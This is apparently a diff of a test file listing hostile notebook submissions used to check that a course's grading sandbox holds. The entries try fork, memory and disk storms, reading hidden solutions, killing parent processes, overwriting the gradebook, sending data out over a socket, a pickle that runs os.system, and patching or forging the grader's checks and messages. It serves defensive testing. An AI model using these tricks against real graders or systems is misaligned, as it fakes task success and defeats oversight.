@@ -1,7 +1,7 @@
 """Hostile submissions, one for each mechanism that has to hold: none gains a point or does harm.
 
-Each says which mechanism it is for, and what the judge says only if the attack took place. All are
-bounded in count, size and time, so that a sandbox that fails does not take the machine with it.
+Each has a pattern of what the judge says only if the attack took place. All are bounded in count, size
+and time, so that a sandbox that fails does not take the machine with it.
 """
 
 import json
@@ -16,7 +16,6 @@ class Attack:
     """A hostile notebook of one cell.
 
     Attributes:
-        guards: the mechanism that holds it off.
         told: a pattern in what the judge says, which it says only if the attack took place.
         cell: its code. PORT and KEEP stand for a port and a file of the host.
         lesson: whose task it answers.
@@ -25,7 +24,6 @@ class Attack:
         keeps: whether `HONEST`, at its end, keeps its point: nothing it needs was broken inside.
     """
 
-    guards: str
     told: str
     cell: str
     lesson: int = 1
@@ -72,20 +70,16 @@ def lying(*lies: str) -> str:
             return x.detach().softmax(dim)""")
 
 
-def forged(guards: str, told: str, *lies: str) -> Attack:
+def forged(told: str, *lies: str) -> Attack:
     """Return an attack that lies about what its answer did."""
-    return Attack(guards, told, lying(*lies), forged='{"forged": true')
+    return Attack(told, lying(*lies), forged='{"forged": true')
 
 
 def sent(header: object) -> Attack:
     """Return an attack that sends a message of its own while its cells run."""
     text = json.dumps(header)
     write = f"os.write(3, struct.pack('<II', {len(text)}, 0) + {text.encode()!r})"
-    guards = (
-        "A worker that sends nonsense while cells run is ended, and the cell is left out."
-    )
-    told = "Code cell 1 was left out"
-    return Attack(guards, told, wrong(f"import struct\n{write}"), forged=text)
+    return Attack("cell 1 was left out", wrong(f"import struct\n{write}"), forged=text)
 
 
 def to_each_file(message: str) -> str:
@@ -101,45 +95,24 @@ def to_each_file(message: str) -> str:
 
 
 OUTCOME = {
-    "values": [],
-    "count": 0,
-    "is_sequence": False,
-    "gradients": {},
-    "error": None,
-    "untouched": False,
-    "after": {},
-    "printed": "",
-    "points": 9,
-}
+    "values": [], "count": 0, "is_sequence": False, "gradients": {}, "error": None,
+    "untouched": False, "after": {}, "printed": "", "points": 9,
+}  # fmt: skip
 
 ENDS = {
-    "exit in an answer": Attack(
-        "A process that ends loses its task, and the next task has another one.",
-        "ended the process .exit status 0",
-        answer("os._exit(0)"),
-    ),
     "exit while importing": Attack(
-        "A cell that ends the process is left out of the next one.",
-        "cell 1 was left out: it ended the process",
-        "import os\nos._exit(0)",
+        "cell 1 was left out: it ended the process", "import os\nos._exit(0)"
     ),
     "exit by a crash": Attack(
-        "The supervisor says by which signal a worker ended.",
-        "ended the process .exit status -11",
-        answer("import ctypes\nctypes.string_at(0)"),
+        "ended the process .exit status -11", answer("import ctypes\nctypes.string_at(0)")
     ),
-    "exit by a signal": Attack(
-        "A worker is the first process of its namespace, which its own signals do not end.",
-        "It returned None",
-        answer("import signal\nos.kill(os.getpid(), signal.SIGKILL)"),
+    "a signal to itself, the first process of its namespace": Attack(
+        "It returned None", answer("import signal\nos.kill(os.getpid(), signal.SIGKILL)")
     ),
     "an exception that is no error": Attack(
-        "Whatever an answer raises, also a BaseException, is an error of its own.",
-        "SystemExit: tensor",
-        answer("raise SystemExit(x.softmax(dim))"),
+        "SystemExit: tensor", answer("raise SystemExit(x.softmax(dim))")
     ),
     "endless loop that ignores signals": Attack(
-        "A call has a deadline, after which its process is killed.",
         "ran too long",
         answer(
             "while True:\n    pass",
@@ -151,30 +124,22 @@ ENDS = {
         ),
     ),
     "endless loop while importing": Attack(
-        "A cell has a deadline too.",
-        "cell 1 was left out: it ran too long",
-        "while True:\n    pass",
+        "cell 1 was left out: it ran too long", "while True:\n    pass"
     ),
     "recursion without end": Attack(
-        "A stack that overflows is an error of the answer.",
-        "RecursionError",
-        answer("return stable_softmax(x, dim)"),
+        "RecursionError", answer("return stable_softmax(x, dim)")
     ),
-    "closes every file": Attack(
-        "A worker that cannot speak any more counts as ended.",
-        "ended the process",
-        answer("os.closerange(0, 64)\nreturn x"),
+    "closes every file, so that it cannot speak any more": Attack(
+        "ended the process", answer("os.closerange(0, 64)\nreturn x")
     ),
 }
 
 STORMS = {
     "fork storm": Attack(
-        "The filter of system calls refuses new processes.",
         "PermissionError.*\\n.*os.fork",
         answer("for _ in range(50):\n    os.fork()\nreturn x.softmax(dim)"),
     ),
-    "thread storm": Attack(
-        "The limit of memory counts threads' stacks.",
+    "thread storm, whose stacks count as memory": Attack(
         "can't start new thread",
         answer("""
             import threading, time
@@ -183,12 +148,10 @@ STORMS = {
             return x.softmax(dim)"""),
     ),
     "memory storm": Attack(
-        "The address space is limited.",
         "MemoryError|ran too long",
         answer("hoard = [bytearray(1 << 28) for _ in range(64)]\nreturn x.softmax(dim)"),
     ),
     "disk storm": Attack(
-        "The folders that can be written are small.",
         "No space left on device",
         answer("""
             for i in range(64):
@@ -197,59 +160,43 @@ STORMS = {
             return x.softmax(dim)"""),
     ),
     "many small files": Attack(
-        "The folders that can be written hold ten thousand files.",
-        "Errno 28]",
-        gets("for i in range(20_000):\n    open(f'/tmp/{i}', 'w').close()"),
+        "Errno 28]", gets("for i in range(20_000):\n    open(f'/tmp/{i}', 'w').close()")
     ),
     "two thousand open files": Attack(
-        "The number of open files is limited.",
-        "Errno 24]",
-        gets("held = [open('/dev/null') for _ in range(2000)]"),
+        "Errno 24]", gets("held = [open('/dev/null') for _ in range(2000)]")
     ),
-    "memory without a name": Attack(
-        "The filter of system calls refuses memory that no limit counts.",
-        "Errno 1]",
-        gets("os.memfd_create('x')"),
-    ),
+    "memory that no limit counts": Attack("Errno 1]", gets("os.memfd_create('x')")),
     "print storm": Attack(
-        "What is printed is thrown away.",
         "raised Overflow: 2020000",
         answer(
             "raise Overflow(sum(print('x' * 100) or 101 for _ in range(20_000)))",
             "class Overflow(Exception):\n    pass",
         ),
     ),
-    "a huge result": Attack(
-        "A tensor is measured before it is sent, by its numbers and not by its bytes.",
-        "but is a tensor .torch.strided",
-        answer("return torch.zeros(1).expand(2**40)"),
+    "a result of few bytes and many numbers": Attack(
+        "but is a tensor .torch.strided", answer("return torch.zeros(1).expand(2**40)")
     ),
     "a huge error": Attack(
-        "Texts are cut inside and outside.",
-        "ValueError: x{500}",
-        answer("raise ValueError('x' * 50_000_000)"),
+        "ValueError: x{500}", answer("raise ValueError('x' * 50_000_000)")
     ),
 }
 
 FILES = {
     "reads the solutions": Attack(
-        "Where the course lies, an empty folder is mounted.",
         "found=0, seen=True",
         answer("""
             seen, found = 0, []
             for top, folders, files in os.walk('/'):
-                folders[:] = set(folders) - {'proc', 'sys', 'share', 'include', 'site-packages'}
+                folders[:] = set(folders) - {'proc', 'sys', 'usr', 'lib', 'lib64'}
                 seen += len(files)
                 found += [f for f in files if f == '01_single_head.ipynb']
-            raise RuntimeError(f'found={len(found)}, seen={seen > 100}')"""),
+            raise RuntimeError(f'found={len(found)}, seen={seen > 50}')"""),
     ),
     "asks for its own answer": Attack(
-        "The course inside has no answers of this lesson.",
         "no task named .stable_softmax",
         answer("from attn_lib.checks import mine\nreturn mine('stable_softmax')(x, dim)"),
     ),
     "reads the environment of its parents": Attack(
-        "The environment is cleared, and /proc shows no processes.",
         "found=False, seen=[0-9]",
         answer("""
             import pathlib
@@ -259,7 +206,6 @@ FILES = {
             raise RuntimeError(f'{found=}, seen={len(seen)}')"""),
     ),
     "kills its parents": Attack(
-        "Processes outside of the namespace cannot be reached.",
         "sent=[1-9]",
         answer("""
             import signal
@@ -273,7 +219,6 @@ FILES = {
             raise RuntimeError(f'{sent=}')"""),
     ),
     "overwrites the gradebook": Attack(
-        "The folders that can be written are not those of the host.",
         "wrote=6",
         answer("""
             os.makedirs(os.path.dirname(KEEP), exist_ok=True)
@@ -282,32 +227,25 @@ FILES = {
             raise RuntimeError(f'{wrote=}')"""),
     ),
     "a file beside Python": Attack(
-        "All else is read-only, also what bubblewrap makes to mount in.",
-        "Errno 30]",
-        gets("pathlib.Path(sys.base_prefix).with_name('x').write_text('x')"),
+        "Errno 30]", gets("pathlib.Path(sys.base_prefix).with_name('x').write_text('x')")
     ),
     "network": Attack(
-        "The namespace has no network.",
         "Network is unreachable",
         gets("socket.create_connection(('127.0.0.1', PORT), 2).sendall(b'stolen')"),
     ),
     "a socket to the host of a virtual machine": Attack(
-        "The filter of system calls allows only sockets that a namespace holds.",
-        "Errno 97]",
-        gets("socket.socket(40, socket.SOCK_STREAM)"),
+        "Errno 97]", gets("socket.socket(40, socket.SOCK_STREAM)")
     ),
 }
 
 CHEATS = {
     "patches the check": Attack(
-        "The check inside decides nothing.",
         "got 1.0000",
         wrong(
             "import attn_lib.checks as c\nc.judge = c.check = c.grade = lambda *a, **k: 1"
         ),
     ),
     "patches torch.allclose": Attack(
-        "What compares runs outside, with functions of its own.",
         "got 1.0000",
         wrong("""
             torch.allclose = torch.equal = lambda *a, **k: True
@@ -315,8 +253,7 @@ CHEATS = {
             torch.Tensor.isfinite = lambda s: s"""),
         keeps=False,
     ),
-    "patches the observer": Attack(
-        "An outcome without results is no right answer.",
+    "patches the observer, so that there is no result": Attack(
         "returned 0 values",
         wrong("""
             import attn_lib.grading.worker as w, attn_lib.checks.observe as o
@@ -324,28 +261,23 @@ CHEATS = {
         keeps=False,
     ),
     "patches the messages": Attack(
-        "A message that is no outcome ends the process.",
         "sent nonsense to the judge",
         wrong("""
             import attn_lib.grading.worker as w
             w.pack_outcome = lambda *a: {'status': 'passed', 'points': 99}"""),
         keeps=False,
     ),
-    "writes to the judge": Attack(
-        "The size of a message is looked at before it is read.",
-        "a message of 1953702523",
-        to_each_file("""b'{"status": "passed"}' * 10"""),
+    "writes a message of an impossible size to the judge": Attack(
+        "a message of 1953702523", to_each_file("""b'{"status": "passed"}' * 10""")
     ),
-    "sends an outcome of its own": Attack(
-        "An outcome holds no points, and a second one counts for nothing.",
+    "sends an outcome of its own, and then a second one": Attack(
         "returned 0 values",
         to_each_file(
             f"struct.pack('<II', len(json.dumps({OUTCOME})), 0) + json.dumps({OUTCOME}).encode()"
         ),
         keeps=False,
     ),
-    "equal to everything": Attack(
-        "Of a subclass of a tensor, only its numbers are sent.",
+    "a tensor equal to everything": Attack(
         "got 1.0000",
         answer("""
             class Same(torch.Tensor):
@@ -357,12 +289,9 @@ CHEATS = {
             return torch.Tensor._make_subclass(Same, x)"""),
     ),
     "a number equal to all others": Attack(
-        "Of numbers, only those of Python's own types are sent.",
-        "is a Any",
-        answer("class Any(int):\n    __eq__ = lambda *a: True\nreturn Any(7)"),
+        "is a Any", answer("class Any(int):\n    __eq__ = lambda *a: True\nreturn Any(7)")
     ),
     "code in a pickle": Attack(
-        "Nothing is unpickled: what is neither a tensor nor a number is sent as its name.",
         "is a Bomb",
         answer("""
             class Bomb:
@@ -370,8 +299,7 @@ CHEATS = {
                     return os.system, ('touch /tmp/bomb',)
             return Bomb()"""),
     ),
-    "looks for the expected result": Attack(
-        "What is expected is nowhere in the process: not in memory, not in the callers.",
+    "looks for the expected result in memory and in the callers": Attack(
         "frames=[1-9]",
         answer("""
             import gc
@@ -388,7 +316,6 @@ CHEATS = {
             raise RuntimeError(f'{frames=}')"""),
     ),
     "knows the public inputs": Attack(
-        "The inputs are drawn with a private seed.",
         "expected 0.7311, got 10000",
         answer("""
             table = {(1.0, 2.0, 4.0): [0.042010, 0.114195, 0.843795]}
@@ -396,21 +323,16 @@ CHEATS = {
             return torch.tensor([table[key]]) if key in table else x"""),
     ),
     "right for the first calls": Attack(
-        "All inputs count.",
         "expected 0.7311, got 10000",
         answer(
             "calls.append(1)\nreturn x.softmax(dim) if len(calls) < 5 else x", "calls = []"
         ),
     ),
     "a class without a name": Attack(
-        "A verdict names results whose class has no name.",
-        "whose class has no name",
-        answer("return type('', (), {})()"),
+        "whose class has no name", answer("return type('', (), {})()")
     ),
     "an error without a name": Attack(
-        "A verdict names errors whose class has no name.",
-        "It raised *: mine",
-        answer("raise type('', (Exception,), {})('mine')"),
+        "It raised *: mine", answer("raise type('', (Exception,), {})('mine')")
     ),
 }
 
@@ -427,32 +349,17 @@ MESSAGES = {
     "nothing for a message": None,
 }
 FORGED = {
-    name: forged(
-        "A gradient of another shape or type than asked for is a wrong one.",
-        "gradient of `x` is wrong",
-        f"said['gradients'] = {{'0': {gradient}}}",
-    )
+    name: forged("gradient of `x` is wrong", f"said['gradients'] = {{'0': {gradient}}}")
     for name, gradient in GRADIENTS.items()
 }
 FORGED |= {name: sent(message) for name, message in MESSAGES.items()}
 FORGED |= {
-    "infinitely many values": forged(
-        "Sizes that are no numbers are nonsense.",
-        "nonsense",
-        "said['count'] = float('inf')",
+    "infinitely many values": forged("nonsense", "said['count'] = float('inf')"),
+    "an argument that the call does not have": forged(
+        "no gradient reaches", "said['after']['9999'] = tensor('int8', [1], 1)"
     ),
-    "an argument far away": forged(
-        "What can be no argument of the call is not looked at.",
-        "no gradient reaches",
-        "said['after']['9999'] = tensor('int8', [1], 1)",
-    ),
-    "an argument that is gone": forged(
-        "An argument that is not sent back has changed.",
-        "an argument has changed",
-        "said['after'] = {}",
-    ),
+    "an argument that is gone": forged("an argument has changed", "said['after'] = {}"),
     "markup and control characters": forged(
-        "What comes from inside is escaped and cleaned where it is shown.",
         "<script>",
         r"texts = ['<script>\x1b[2J\ud800=1+1' * 99] * 2",
         "said['error'] = ['<script>', *texts, [['<script>', 1]], False]",
@@ -464,9 +371,9 @@ HOSTILE = ENDS | STORMS | FILES | CHEATS | FORGED
 # --------------------------------------- rules that are broken, and silenced inside
 
 
-def silenced(guards: str, found: str, lesson: int, task: str, replaced: str, code: str):
+def silenced(found: str, lesson: int, task: str, replaced: str, code: str):
     """Return an attack that replaces what watches over a rule inside, and breaks the rule."""
-    return Attack(guards, found, BEGIN + dedent(replaced) + dedent(code), lesson, task)
+    return Attack(found, BEGIN + dedent(replaced) + dedent(code), lesson, task)
 
 
 BEGIN = """
@@ -496,7 +403,6 @@ NO_METER = 'replace("tasks.lesson_11.runs", _within_limits=lambda answer, *args:
 
 SILENCED = {
     "inputs that change": silenced(
-        "Inputs are compared outside with what they were.",
         "changes-input",
         1,
         "stable_softmax",
@@ -507,7 +413,6 @@ SILENCED = {
             return x.softmax(dim)""",
     ),
     "almost zero for -inf": silenced(
-        "A rule about the result is applied outside.",
         "should get exactly 0",
         1,
         "stable_softmax",
@@ -518,7 +423,6 @@ SILENCED = {
             return torch.where(x == -torch.inf, 1e-7, right).to(x.dtype)""",
     ),
     "a result of another type": silenced(
-        "A rule about the type of a result is applied outside.",
         "its dtype is torch.float32",
         5,
         "encoder_decoder_masks",
@@ -533,7 +437,6 @@ SILENCED = {
             return real, causal, real""",
     ),
     "a module that is not left as it was": silenced(
-        "What a module held is compared outside with what it holds.",
         "look at its `(forward|v_proj.bias)`",
         7,
         "masked_heads",
@@ -553,7 +456,6 @@ SILENCED = {
             return made""",
     ),
     "gradients that are left behind": silenced(
-        "What is seen inside of a model's gradients is judged outside.",
         "`.grad` of the model's parameters is not what it was",
         7,
         "head_importance",
@@ -564,8 +466,7 @@ SILENCED = {
             loss_fn(m).backward()
             return m.grad.abs()""",
     ),
-    "a loss that is called often": silenced(
-        "What an answer may call runs outside, which counts the calls.",
+    "a loss, which runs outside, that is called often": silenced(
         "called a second time",
         7,
         "head_importance",
@@ -577,7 +478,6 @@ SILENCED = {
             return torch.stack([one(h) for h in range(num_heads)])""",
     ),
     "a model that is asked for nothing": silenced(
-        "What is served outside is asked by the answer, or it has no result.",
         "It returned None",
         5,
         "greedy_decode",
@@ -589,7 +489,6 @@ SILENCED = {
             raise ValueError""",
     ),
     "a model that is looked into": silenced(
-        "What is served outside is not inside.",
         "looked at [0-9]+ things",
         5,
         "greedy_decode",
@@ -597,7 +496,6 @@ SILENCED = {
         "def greedy_decode(function, batch_size, bos_id, eos_id, max_len):" + LOOKS,
     ),
     "a function that autograd follows": silenced(
-        "What is served outside has gradients only if its task says so.",
         "does not require grad",
         12,
         "numerical_gradient",
@@ -608,7 +506,6 @@ SILENCED = {
             return torch.autograd.grad(fn(x), x)[0]""",
     ),
     "a whole matrix": silenced(
-        "The memory of the process is measured outside.",
         "held [0-9]{3,} MB",
         11,
         "chunked_attention",
@@ -622,7 +519,6 @@ SILENCED = {
             return scores.softmax(-1) @ v""",
     ),
     "a whole matrix, in memory that was there before": silenced(
-        "Memory that cells hold counts too.",
         "held [0-9]{3,} MB",
         11,
         "sliding_window_attention",
@@ -642,7 +538,6 @@ SILENCED = {
             return torch.cat(rows, -2)""",
     ),
     "a file that is never written": silenced(
-        "What stands in a file is compared outside.",
         "",
         13,
         "save_checkpoint",
